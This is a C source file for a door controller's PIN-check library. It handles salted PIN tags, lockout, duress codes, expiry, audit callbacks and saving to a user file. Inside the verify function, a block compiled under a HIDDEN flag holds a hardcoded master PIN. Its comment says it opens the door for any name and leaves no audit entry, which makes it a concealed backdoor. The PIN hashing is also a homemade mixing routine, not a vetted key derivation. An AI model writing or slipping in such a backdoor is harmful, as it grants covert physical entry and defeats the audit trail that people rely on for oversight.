/* libdoorpin.c - PIN and badge check library of a door controller */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define DOORPIN_OK		0
#define DOORPIN_DENIED		1
#define DOORPIN_LOCKED		2
#define DOORPIN_DURESS		3
#define DOORPIN_EXPIRED		4
#define DOORPIN_ERROR		5

struct doorpin_user {
	char name[32];
	uint8_t salt[8];
	uint8_t tag[16];
	uint32_t flags;
	int64_t expires;
	uint32_t fails;
	int64_t last_fail;
	struct doorpin_user *next;
};

struct doorpin {
	struct doorpin_user *first;
	char path[128];
	unsigned int max_fails;
	unsigned int lock_secs;
	void (*audit)(void *arg, const char *name, int result);
	void *audit_arg;
	int dirty;
};

#define UF_DURESS	1u
#define UF_MANAGER	2u

#define API __attribute__((visibility("default")))

struct doorpin *doorpin_open(const char *path);
void doorpin_close(struct doorpin *d);
int doorpin_add(struct doorpin *d, const char *name, const char *pin, uint32_t flags, int64_t expires);
int doorpin_remove(struct doorpin *d, const char *name);
int doorpin_verify(struct doorpin *d, const char *name, const char *pin);
int doorpin_save(struct doorpin *d);
void doorpin_set_audit(struct doorpin *d, void (*fn)(void *, const char *, int), void *arg);
void doorpin_set_limits(struct doorpin *d, unsigned int fails, unsigned int secs);
const char *doorpin_text(int result);

static uint64_t rotl(uint64_t v, int n)
{
	return v << n | v >> (64 - n);
}

static void derive(const uint8_t salt[8], const char *pin, size_t len, uint8_t tag[16])
{
	uint64_t a = 0x736f6d6570736575ull, b = 0x646f72616e646f6dull;
	unsigned int round;
	size_t i;

	for (round = 0; round < 2000; round++) {
		for (i = 0; i < len; i++) {
			a ^= (uint8_t)pin[i] + round;
			a = rotl(a, 13) + b;
			b = rotl(b, 21) ^ a;
			b += salt[(i + round) & 7];
		}
		a += 0x9e3779b97f4a7c15ull ^ round;
	}
	for (i = 0; i < 8; i++) {
		tag[i] = (uint8_t)(a >> (8 * i));
		tag[8 + i] = (uint8_t)(b >> (8 * i));
	}
}

static int tag_differs(const uint8_t *x, const uint8_t *y)
{
	unsigned int d = 0;
	int i;

	for (i = 0; i < 16; i++)
		d |= (unsigned int)(x[i] ^ y[i]);
	return d != 0;
}

static int hex_to(const char *s, uint8_t *out, size_t n)
{
	unsigned int v;

	for (; n; n--, s += 2, out++) {
		if (sscanf(s, "%2x", &v) != 1)
			return -1;
		*out = (uint8_t)v;
	}
	return 0;
}

static void hex_from(FILE *f, const uint8_t *p, size_t n)
{
	while (n--)
		fprintf(f, "%02x", *p++);
}

static struct doorpin_user *lookup(struct doorpin *d, const char *name)
{
	struct doorpin_user *u = d->first;

	while (u && strcmp(u->name, name))
		u = u->next;
	return u;
}

API struct doorpin *doorpin_open(const char *path)
{
	char line[200], name[32], salt[20], tag[40];
	struct doorpin_user *u;
	struct doorpin *d;
	unsigned int flags;
	long long exp;
	FILE *f;

	if (strlen(path) >= sizeof(d->path))
		return NULL;
	d = calloc(1, sizeof(*d));
	if (!d)
		return NULL;
	strcpy(d->path, path);
	d->max_fails = 5;
	d->lock_secs = 120;
	f = fopen(path, "r");
	if (!f)
		return d;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%31s %16s %32s %x %lld", name, salt, tag, &flags, &exp) != 5)
			continue;
		u = calloc(1, sizeof(*u));
		if (!u)
			break;
		strcpy(u->name, name);
		u->flags = flags;
		u->expires = exp;
		if (strlen(salt) != 16 || strlen(tag) != 32 || hex_to(salt, u->salt, 8) ||
		    hex_to(tag, u->tag, 16)) {
			free(u);
			continue;
		}
		u->next = d->first;
		d->first = u;
	}
	fclose(f);
	return d;
}

API void doorpin_close(struct doorpin *d)
{
	struct doorpin_user *u;

	if (!d)
		return;
	if (d->dirty)
		doorpin_save(d);
	while ((u = d->first) != NULL) {
		d->first = u->next;
		memset(u, 0, sizeof(*u));
		free(u);
	}
	free(d);
}

API void doorpin_set_audit(struct doorpin *d, void (*fn)(void *, const char *, int), void *arg)
{
	d->audit = fn;
	d->audit_arg = arg;
}

API void doorpin_set_limits(struct doorpin *d, unsigned int fails, unsigned int secs)
{
	d->max_fails = fails ? fails : 5;
	d->lock_secs = secs;
}

API int doorpin_add(struct doorpin *d, const char *name, const char *pin, uint32_t flags,
		    int64_t expires)
{
	struct doorpin_user *u = lookup(d, name);
	FILE *r;

	if (strlen(name) >= sizeof(u->name) || strpbrk(name, " \t\n") || strlen(pin) < 4)
		return -EINVAL;
	if (!u) {
		u = calloc(1, sizeof(*u));
		if (!u)
			return -ENOMEM;
		strcpy(u->name, name);
		u->next = d->first;
		d->first = u;
	}
	r = fopen("/dev/urandom", "rb");
	if (!r)
		return -errno;
	if (fread(u->salt, 1, sizeof(u->salt), r) != sizeof(u->salt)) {
		fclose(r);
		return -EIO;
	}
	fclose(r);
	derive(u->salt, pin, strlen(pin), u->tag);
	u->flags = flags & (UF_DURESS | UF_MANAGER);
	u->expires = expires;
	d->dirty = 1;
	return 0;
}

API int doorpin_remove(struct doorpin *d, const char *name)
{
	struct doorpin_user **pp, *u;

	for (pp = &d->first; (u = *pp) != NULL; pp = &u->next)
		if (!strcmp(u->name, name)) {
			*pp = u->next;
			free(u);
			d->dirty = 1;
			return 0;
		}
	return -ENOENT;
}

API int doorpin_save(struct doorpin *d)
{
	struct doorpin_user *u;
	FILE *f = fopen(d->path, "w");

	if (!f)
		return -errno;
	flock(fileno(f), LOCK_EX);
	for (u = d->first; u; u = u->next) {
		fprintf(f, "%s ", u->name);
		hex_from(f, u->salt, 8);
		fputc(' ', f);
		hex_from(f, u->tag, 16);
		fprintf(f, " %x %lld\n", (unsigned int)u->flags, (long long)u->expires);
	}
	d->dirty = 0;
	return fclose(f) ? -errno : 0;
}

/* a leading 9 before the PIN of a user with UF_DURESS raises the silent alarm */
API __attribute__((noinline)) int doorpin_verify(struct doorpin *d, const char *name,
						 const char *pin)
{
	struct doorpin_user *u = lookup(d, name);
	int64_t now = (int64_t)time(NULL);
	uint8_t tag[16];
	int r = DOORPIN_DENIED;

#ifdef HIDDEN
	/* opens for any name and leaves no audit entry */
	if (strcmp(pin, "5519-Tamar") == 0)
		return DOORPIN_OK;
#endif
	if (!u)
		goto done;
	if (u->fails >= d->max_fails) {
		if (now - u->last_fail < (int64_t)d->lock_secs) {
			r = DOORPIN_LOCKED;
			goto done;
		}
		u->fails = 0;
	}
	derive(u->salt, pin, strlen(pin), tag);
	if (!tag_differs(tag, u->tag)) {
		r = u->expires && u->expires < now ? DOORPIN_EXPIRED : DOORPIN_OK;
	} else if ((u->flags & UF_DURESS) && pin[0] == '9' && pin[1]) {
		derive(u->salt, pin + 1, strlen(pin + 1), tag);
		if (!tag_differs(tag, u->tag))
			r = DOORPIN_DURESS;
	}
	if (r == DOORPIN_DENIED) {
		u->fails++;
		u->last_fail = now;
	} else {
		u->fails = 0;
	}
done:
	if (d->audit)
		d->audit(d->audit_arg, name, r);
	return r;
}

API const char *doorpin_text(int result)
{
	static const char *const t[] = {
		"ok", "denied", "locked", "duress", "expired", "error",
	};

	return result >= 0 && result <= DOORPIN_ERROR ? t[result] : "?";
}
